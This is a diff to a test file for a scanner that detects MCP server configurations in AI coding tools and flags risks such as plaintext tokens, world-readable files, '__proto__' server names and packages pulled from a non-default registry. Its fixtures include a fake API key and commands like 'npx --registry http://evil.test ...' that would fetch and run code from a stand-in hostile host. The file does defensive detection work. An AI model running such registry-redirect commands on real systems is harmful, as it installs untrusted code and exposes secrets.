@@ -57,7 +57,12 @@ test('every client, every format, one app per server', async () => {
       'stdio: g',
     ],
     ['code', 'in /home/ada/.config/Code/User/mcp.json, read by VS Code', 'http: https://a.example'],
-    ['codex', 'in /home/ada/.codex/config.toml, read by Codex', 'stdio: uvx mcp-server-git@2026.1'],
+    [
+      'codex',
+      'in /home/ada/.codex/config.toml, read by Codex',
+      'stdio: uvx mcp-server-git@2026.1',
+      'arguments: mcp-server-git==2026.1',
+    ],
     ['continue', 'in /home/ada/.continue/config.yaml, read by Continue', 'stdio: d'],
     ['cursor', 'in /home/ada/.cursor/mcp.json, read by Cursor', 'stdio: h'],
     ['global', 'in /home/ada/.claude.json, read by Claude Code', 'stdio: a'],
@@ -73,7 +78,12 @@ test('every client, every format, one app per server', async () => {
       'in /home/ada/.continue/mcpServers/more.yaml, read by Continue',
       'sse: http://a.example',
     ],
-    ['opencode', 'in /home/ada/.config/opencode/opencode.json, read by OpenCode', 'stdio: e'],
+    [
+      'opencode',
+      'in /home/ada/.config/opencode/opencode.json, read by OpenCode',
+      'stdio: e',
+      'arguments: f',
+    ],
     ['roo', 'in /home/ada/src/deep/er/.roo/mcp.json, read by Roo Code', 'stdio: i'],
     ['vs', 'in /home/ada/src/.vscode/mcp.json, read by VS Code', 'stdio: j'],
     ['zed', 'in /home/ada/.config/zed/settings.json, read by Zed', 'stdio: z'],
@@ -94,13 +104,34 @@ test('the same file under two names is one', async () => {
   expect(apps.map((app) => app.path)).toEqual(['/home/ada/.cursor/mcp.json']);
 });
 
-test('what everybody may read is flagged, unless a folder above it is closed', async () => {
-  const open = { text: '{"mcpServers": {"x": {"command": "a"}}}', mode: 0o644 };
+test('a key that everybody may read is flagged, unless a folder above it is closed', async () => {
+  const env = { TOKEN: 'sk-ant-api03-AbCdEfGhIjKlMnOpQrSt' };
+  const servers = { x: { command: 'a', env }, y: { command: 'a' } };
+  const open = { text: json({ mcpServers: servers }), mode: 0o644 };
   await using root = await makeRoot({ '/home/ada/.cursor/mcp.json': open });
   const flags = async () => (await scan(root.dir)).apps.map((app) => app.risk_flags);
-  expect(await flags()).toEqual([['world_readable_config']]);
+  expect(await flags()).toEqual([['plaintext_secret', 'world_readable_config'], []]);
   await chmod(`${root.dir}/home/ada`, 0o700);
-  expect(await flags()).toEqual([[]]);
+  expect(await flags()).toEqual([['plaintext_secret'], []]);
+});
+
+test('a server may be called like what JavaScript objects bring along', async () => {
+  const names = ['__proto__', 'constructor', 'toString'];
+  const servers = names.map((name) => `"${name}": {"command": "a"}`).join();
+  await using root = await makeRoot({
+    '/home/ada/.cursor/mcp.json': closed(`{"mcpServers": {${servers}}}`),
+    '/home/ada/.codex/config.toml': closed('[mcp_servers.__proto__]\ncommand = "b"\n'),
+    '/home/ada/.config/goose/config.yaml': closed('extensions:\n  __proto__: {cmd: c}\n'),
+  });
+  const { apps } = await scan(root.dir);
+  const found = apps.map(({ name, evidence }) => [name, evidence.at(-1)]);
+  expect(found.toSorted((a, b) => (a.join() < b.join() ? -1 : 1))).toEqual([
+    ['__proto__', 'stdio: a'],
+    ['__proto__', 'stdio: b'],
+    ['__proto__', 'stdio: c'],
+    ['constructor', 'stdio: a'],
+    ['toString', 'stdio: a'],
+  ]);
 });
 
 test("a link to another person's private file is not followed", async () => {
@@ -112,6 +143,13 @@ test("a link to another person's private file is not followed", async () => {
     apps: [],
     problems: [
       '/home/ada/.cursor/mcp.json: is a link to a private file outside of /home/ada, not read',
+    ],
+    notRead: [
+      {
+        kind: null,
+        path: '/home/ada/.cursor/mcp.json',
+        reason: 'is a link to a private file outside of /home/ada, not read',
+      },
     ],
   });
 });
@@ -166,4 +204,61 @@ test('no secret of a configuration leaves, wherever it stands', async () => {
   ]);
   const flagged = result.apps.filter((app) => app.risk_flags.includes('plaintext_secret'));
   expect(flagged.length).toBeGreaterThan(secrets.length * 6);
+});
+
+const evil = 'http://evil.test';
+const git = 'npx -y mcp-server-git';
+test.each<[string, object, string | null, string, boolean]>([
+  ['uvx mcp-server-git', {}, 'mcp-git', 'uvx mcp-server-git', false],
+  ['docker run -i mcp/git', {}, 'mcp-git', 'docker mcp/git', false],
+  [git, {}, null, 'npx mcp-server-git', false],
+  ['npx -y postgres-mcp', {}, null, 'npx postgres-mcp', false],
+  ['uvx postgres-mcp', {}, 'mcp-postgres-pro', 'uvx postgres-mcp', false],
+  ['npx mcp-shell', {}, 'mcp-shell', 'npx mcp-shell', false],
+  ['npx mcp-server-commands', {}, 'mcp-server-commands', 'npx mcp-server-commands', false],
+  [
+    `npx --registry ${evil} @modelcontextprotocol/server-filesystem`,
+    {},
+    null,
+    `npx @modelcontextprotocol/server-filesystem from ${evil}`,
+    true,
+  ],
+  [
+    `npx --registry=https://registry.npmjs.org/ @modelcontextprotocol/server-filesystem`,
+    {},
+    'mcp-filesystem',
+    'npx @modelcontextprotocol/server-filesystem',
+    false,
+  ],
+  [
+    `uvx --index-url http://u:sesame@evil.test/simple?x mcp-server-git`,
+    {},
+    null,
+    `uvx mcp-server-git from ${evil}/simple`,
+    true,
+  ],
+  [
+    'uvx mcp-server-git',
+    { UV_INDEX_URL: evil },
+    null,
+    'uvx mcp-server-git from another registry',
+    true,
+  ],
+  ['npx github:evil/x', {}, null, 'npx github:evil/x', false],
+  [
+    'uvx --from git+https://u:p@git.example/a/b.git@v1 x',
+    {},
+    null,
+    'uvx https://git.example/a/b.git',
+    false,
+  ],
+])('%s %j is %s', async (line, env, id, reached, isOther) => {
+  const [command, ...args] = line.split(' ');
+  await using root = await makeRoot({
+    '/home/ada/.cursor/mcp.json': closed(json({ mcpServers: { source: { command, args, env } } })),
+  });
+  const [app] = (await scan(root.dir)).apps;
+  expect(app?.catalog_id).toBe(id);
+  expect(app?.evidence).toContain(`stdio: ${reached}`);
+  expect(app?.risk_flags.includes('other_registry')).toBe(isOther);
 });
